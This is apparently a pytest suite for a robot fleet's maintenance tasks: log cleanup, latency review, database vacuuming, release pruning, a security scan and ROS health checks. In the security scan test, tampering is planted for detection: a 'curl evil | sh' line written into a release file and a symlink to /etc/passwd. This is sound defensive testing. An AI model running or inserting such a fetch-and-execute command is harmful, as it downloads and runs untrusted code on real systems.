"""The maintenance tasks on real files in temporary folders: log cleanup, performance review, deep maintenance,
security scan, health check (its ROS side given as plain functions), each effect checked on disk."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import sqlite3
from pathlib import Path

import pytest

from vla_fleet.maintenance import deep, health, logs, performance, security
from vla_fleet.maintenance.config import MaintenanceConfig
from vla_fleet.maintenance.layout import TaskFailed
from vla_monitoring.config import ConfigError, build_config

DAY = 86400.0
NOW = 1_790_000_000.0


def cfg_of(**values) -> MaintenanceConfig:
    return build_config(MaintenanceConfig, values)


def _file(path: Path, data: bytes, age_days: float, now: float = NOW) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    os.utime(path, (now - age_days * DAY, now - age_days * DAY))
    return path


# ------------------------------------------------------------------ log_cleanup
def test_log_cleanup_compresses_deletes_and_spares_the_running_session(tmp_path):
    ros = tmp_path / "ros_log"
    suite = tmp_path / "vla_logs"
    old_run = _file(ros / "run-old" / "node.log", b"old line\n" * 1000, 20)
    mid_run = _file(ros / "run-mid" / "node.log", b"mid line\n" * 1000, 3)
    live = _file(ros / "run-live" / "node.log", b"live\n" * 1000, 30)   # old, but the session runs
    (ros / "latest").symlink_to("run-live")
    active = _file(suite / "robot_1.jsonl", b"{}\n" * 100, 0.0001)       # written just now
    archive = _file(suite / "robot_1.20260101T000000.000000Z.jsonl.gz", gzip.compress(b"{}\n"), 2)
    text = mid_run.read_bytes()

    cfg = cfg_of(log_compress_after_days=1.0, log_max_age_days=14.0, log_min_idle_s=300.0)
    out = logs.log_cleanup(cfg, [ros, suite, tmp_path / "absent"], [ros / "latest"], NOW)

    assert not old_run.exists() and not (ros / "run-old").exists()          # deleted, its empty folder too
    assert not mid_run.exists() and gzip.decompress((ros / "run-mid" / "node.log.gz").read_bytes()) == text
    assert (ros / "run-mid" / "node.log.gz").stat().st_mtime == pytest.approx(NOW - 3 * DAY)
    assert live.exists() and active.exists() and archive.exists()
    assert out["deleted"]["files"] == 1 and out["compressed"]["files"] == 1
    assert out["missing_dirs"] == [str(tmp_path / "absent")]
    assert out["bytes_after"] < out["bytes_before"]


def test_log_cleanup_size_budget_removes_oldest_first(tmp_path):
    d = tmp_path / "logs"
    files = [_file(d / f"f{i}.gz", os.urandom(400_000), age_days=5 - i) for i in range(5)]  # f0 oldest
    out = logs.log_cleanup(cfg_of(log_max_total_mb=1.0), [d], [], NOW)
    assert [f.exists() for f in files] == [False, False, False, True, True]
    assert out["bytes_after"] <= 1_000_000 and not out["problems"]


def test_ros_log_dir_follows_the_environment():
    assert logs.ros_log_dir({"ROS_LOG_DIR": "/x/y"}) == Path("/x/y")
    assert logs.ros_log_dir({"ROS_HOME": "/h"}) == Path("/h/log")


# ------------------------------------------------------------------ performance_review
def _history(folder: Path, robot: str, start: float, days: int, base_ms: float, growth_ms: float,
             errors_per_day: int) -> None:
    lines = []
    for day in range(days):
        for i in range(200):
            t = start + day * DAY + i * 60
            lines.append({"timestamp": t, "type": "inference", "input_size": 1, "output_action": [0] * 6,
                          "inference_time_ms": base_ms + growth_ms * day + (i % 10), "sequence_number": i})
        for i in range(errors_per_day):
            lines.append({"timestamp": start + day * DAY + 30 + i, "type": "error", "error_type": "timeout",
                          "error_message": "cloud", "context": None})
    text = "\n".join(json.dumps(x) for x in lines) + "\nnot json\n"
    half = len(text) // 2
    cut = text.index("\n", half) + 1
    (folder / f"{robot}.20260101T000000.000000Z.jsonl.gz").write_bytes(gzip.compress(text[:cut].encode()))
    (folder / f"{robot}.jsonl").write_text(text[cut:])


def test_performance_review_percentiles_error_rate_and_trend(tmp_path):
    hist = tmp_path / "vla_logs"
    hist.mkdir()
    start = NOW - 7 * DAY
    _history(hist, "robot_1", start, 7, base_ms=20.0, growth_ms=10.0, errors_per_day=2)
    _history(hist, "robot_2", start, 7, base_ms=50.0, growth_ms=0.0, errors_per_day=40)
    # an entry from before the window is not counted
    with open(hist / "robot_2.jsonl", "a") as f:
        f.write(json.dumps({"timestamp": start - DAY, "type": "inference", "inference_time_ms": 9999.0}) + "\n")
    cfg = cfg_of(metrics_log_dir=str(hist), report_dir=str(tmp_path / "reports"), review_window_days=7.0,
                 review_buckets=7, latency_p95_warn_ms=75.0, error_rate_warn=0.1)
    out = performance.performance_review(cfg, NOW, NOW)

    r1, r2 = out["robots"]["robot_1"], out["robots"]["robot_2"]
    assert r1["inferences"] == 1400 and r1["errors"] == 14 and r1["error_rate"] == pytest.approx(0.01)
    assert r1["trend"]["p95_ms_per_day"] == pytest.approx(10.0, abs=0.5)     # latency grows 10 ms a day
    assert r1["periods"][0]["p50_ms"] == pytest.approx(24.5, abs=1.0)
    assert r2["max_ms"] < 9999.0 and r2["p99_ms"] == pytest.approx(59.0, abs=0.5)
    assert r2["trend"]["p95_ms_per_day"] == pytest.approx(0.0, abs=0.1)
    assert r2["error_rate"] == pytest.approx(0.2)
    assert out["bad_lines"] == 2
    assert any("robot_1: p95" in p for p in out["problems"]) and any("robot_2: error rate" in p
                                                                      for p in out["problems"])
    assert json.loads(Path(out["report"]).read_text())["robots"]["robot_1"]["inferences"] == 1400


def test_performance_review_without_history_fails_with_the_reason(tmp_path):
    with pytest.raises(TaskFailed, match="no metrics history"):
        performance.performance_review(cfg_of(metrics_log_dir=str(tmp_path / "none")), NOW, NOW)


def test_performance_review_memory_is_bounded(tmp_path):
    hist = tmp_path / "h"
    hist.mkdir()
    _history(hist, "robot_1", NOW - 7 * DAY, 7, 20.0, 0.0, 0)
    out = performance.performance_review(cfg_of(metrics_log_dir=str(hist), report_dir=str(tmp_path / "r"),
                                                review_max_samples=100), NOW, NOW)
    assert out["robots"]["robot_1"]["inferences"] == 1400   # all counted, 100 sampled
    assert out["robots"]["robot_1"]["p50_ms"] == pytest.approx(24.5, abs=3.0)


# ------------------------------------------------------------------ deep_maintenance
def _release(ota: Path, version: str, files: dict[str, bytes]) -> Path:
    rel = ota / "releases" / version
    entries = []
    for name, data in files.items():
        (rel / name).parent.mkdir(parents=True, exist_ok=True)
        (rel / name).write_bytes(data)
        entries.append({"path": name, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)})
    (rel / "manifest.json").write_text(json.dumps({"format": 1, "version": version, "files": entries}))
    return rel


def test_deep_maintenance_checks_vacuums_prunes(tmp_path):
    db = tmp_path / "fleet.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE t (x BLOB)")
    conn.executemany("INSERT INTO t VALUES (?)", [(os.urandom(1000),) for _ in range(2000)])
    conn.commit()
    conn.execute("DELETE FROM t")
    conn.commit()
    conn.close()
    size_before = db.stat().st_size
    ota = tmp_path / "ota"
    for v in ("1.2.0", "1.10.0", "1.9.1", "0.9.0", "1.3.0"):
        _release(ota, v, {"model/policy.pt": v.encode()})
    (ota / "current").symlink_to("releases/0.9.0")          # rolled back to an old one: kept, and two more
    stale = _file(ota / "staging" / "1.0.0.tar.gz.part", b"x" * 100, 10)
    fresh = _file(ota / "staging" / "1.11.0.tar.gz.part", b"x" * 100, 0.1)
    cfg = cfg_of(db_urls=[f"sqlite:///{db}", "sqlite:///:memory:", "postgresql://fleet:pw-7e2b@db:5432/fleet"],
                 releases_dir=str(ota), keep_releases=3, cache_dirs=[str(ota / "staging")], cache_max_age_days=7.0,
                 backup_dir=str(tmp_path / "b"))
    out = deep.deep_maintenance(cfg, NOW)
    assert "postgresql://fleet@db:5432/fleet" in out["databases"] and "pw-7e2b" not in str(out)
    result = out["databases"][f"sqlite:///{db}"]
    assert result["integrity"] == "ok" and result["vacuumed"]
    assert db.stat().st_size < size_before / 10
    assert sorted(out["releases_pruned"]) == ["1.2.0", "1.3.0"]
    assert sorted(p.name for p in (ota / "releases").iterdir()) == ["0.9.0", "1.10.0", "1.9.1"]
    assert not stale.exists() and fresh.exists()
    assert not out["problems"]


def test_deep_maintenance_reports_a_corrupt_database(tmp_path):
    db = tmp_path / "bad.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE t (x TEXT)")
    conn.executemany("INSERT INTO t VALUES (?)", [("a" * 500,) for _ in range(2000)])
    conn.execute("CREATE INDEX i ON t (x)")
    conn.commit()
    conn.close()
    data = bytearray(db.read_bytes())
    for off in range(8192, len(data), 4096):  # scribble over most pages, header kept
        data[off + 100: off + 300] = os.urandom(200)
    db.write_bytes(bytes(data))
    out = deep.deep_maintenance(cfg_of(db_urls=[f"sqlite:///{db}"], releases_dir=str(tmp_path / "ota"),
                                       backup_dir=str(tmp_path / "b"), cache_dirs=[str(tmp_path / "c")]), NOW)
    assert out["problems"] and "bad.db" in out["problems"][0]


# ------------------------------------------------------------------ security_scan
def test_security_scan_release_permissions_and_fix(tmp_path):
    ota = tmp_path / "ota"
    rel = _release(ota, "2.0.0", {"model/policy.pt": b"policy", "config/safety.yaml": b"limits"})
    (ota / "current").symlink_to("releases/2.0.0")
    keys = tmp_path / "keys"
    keys.mkdir()
    private = _file(keys / "ota_ed25519", b"secret", 0)
    public = _file(keys / "ota_ed25519.pub", b"public", 0)
    cert = _file(keys / "server.pem", b"-----BEGIN CERTIFICATE-----", 0)
    tls_key = _file(keys / "server_key.pem", b"-----BEGIN PRIVATE KEY-----", 0)
    open_file = _file(tmp_path / "open.txt", b"x", 0)
    for p, mode in ((private, 0o644), (public, 0o644), (cert, 0o644), (tls_key, 0o640), (open_file, 0o666)):
        p.chmod(mode)
    cfg = cfg_of(releases_dir=str(ota), scan_paths=[str(tmp_path)], backup_dir=str(tmp_path / "b"))

    clean = security.security_scan(cfg)
    assert clean["release"]["installed"] == "2.0.0" and clean["release"]["problems"] == []
    assert sorted(clean["secrets_with_open_permissions"]) == [f"{private} (0644, want 0600)",
                                                              f"{tls_key} (0640, want 0600)"]
    assert clean["world_writable"] == [f"{open_file} (0666)"]

    (rel / "model" / "policy.pt").write_bytes(b"POLICY")         # same size, other bytes
    (rel / "config" / "safety.yaml").unlink()
    (rel / "extra.sh").write_text("curl evil | sh")
    (rel / "escape").symlink_to("/etc/passwd")
    found = security.security_scan(cfg)["release"]["problems"]
    assert len(found) == 4
    assert any("policy.pt" in p and "sha256" in p for p in found)
    assert any("safety.yaml: missing" in p for p in found)
    assert any("extra.sh: not in the manifest" in p for p in found)
    assert any("escape: link leads outside" in p for p in found)

    fixed = security.security_scan(build_config(MaintenanceConfig, {**cfg.__dict__, "fix_permissions": True}))
    assert len(fixed["fixed"]) == 3
    assert private.stat().st_mode & 0o777 == 0o600 and tls_key.stat().st_mode & 0o777 == 0o600
    assert open_file.stat().st_mode & 0o777 == 0o664 and public.stat().st_mode & 0o777 == 0o644
    again = security.security_scan(cfg)
    assert not again["secrets_with_open_permissions"] and not again["world_writable"]


def test_security_scan_without_release(tmp_path):
    out = security.security_scan(cfg_of(releases_dir=str(tmp_path / "none"), scan_paths=[str(tmp_path)],
                                        backup_dir=str(tmp_path / "b")))
    assert out["release"] == {"installed": None} and out["problems"] == []


# ------------------------------------------------------------------ health_check
def _probes(master=(True, ""), dead=(), rates=None, clock=None):
    return health.HealthProbes(
        master=lambda: master,
        ping=lambda node: (False, "not registered with the master") if node in dead else (True, ""),
        rates=lambda: rates or {},
        clock=lambda: clock or {"ros_time": NOW, "wall_time": NOW, "sim_time": False, "clock_age_s": None})


def test_health_check_finds_each_kind_of_problem(tmp_path):
    cfg = cfg_of(expected_nodes=["/a", "/b"], topic_min_rates=["/robot_status 1.0", "/clock 5"],
                 disk_paths=[str(tmp_path / "not" / "made"), str(tmp_path)], min_free_disk_percent=0.0)
    ok = health.health_check(cfg, _probes(rates={"/robot_status": 2.0, "/clock": 100.0}))
    assert ok["healthy"] and ok["problems"] == [] and ok["nodes"]["/a"]["alive"]
    assert set(ok["disks"]) == {str(tmp_path / "not" / "made"), str(tmp_path)}

    bad = health.health_check(
        build_config(MaintenanceConfig, {**cfg.__dict__, "min_free_disk_percent": 100.0}),
        _probes(dead=("/b",), rates={"/robot_status": 0.2, "/clock": None},
                clock={"ros_time": NOW, "wall_time": NOW, "sim_time": True, "clock_age_s": 60.0}))
    assert not bad["healthy"]
    text = "\n".join(bad["problems"])
    for needle in ("node /b: not registered", "/robot_status: 0.2 Hz, below 1 Hz", "/clock: rate not measured",
                   "% free, below 100%", "/clock silent for 60.0 s"):
        assert needle in text
    down = health.health_check(cfg, _probes(master=(False, "connection refused")))
    assert "ROS master: connection refused" in down["problems"][0]
    assert down["nodes"]["/a"] == {"alive": False, "error": "master unreachable"}


def test_topic_rates_over_a_window():
    rates = health.TopicRates(["/x"], window_s=10.0, start_s=100.0)
    for i in range(50):
        rates.note("/x", 100.0 + i * 0.1)                       # 10 Hz for 5 s
    assert rates.rates(105.0)["/x"] == pytest.approx(10.0, rel=0.05)
    assert rates.rates(130.0)["/x"] == 0.0                       # silent for longer than the window
    assert health.TopicRates(["/y"], 10.0, 5.0).rates(5.0)["/y"] is None


def test_config_refuses_bad_cron_and_rates():
    with pytest.raises(ConfigError, match="~health_check_cron"):
        cfg_of(health_check_cron="every day")
    with pytest.raises(ConfigError, match="~topic_min_rates"):
        cfg_of(topic_min_rates=["/x fast"])
    assert cfg_of(full_backup_cron="").schedule().keys() == {"health_check", "log_cleanup", "performance_review",
                                                             "deep_maintenance", "security_scan"}
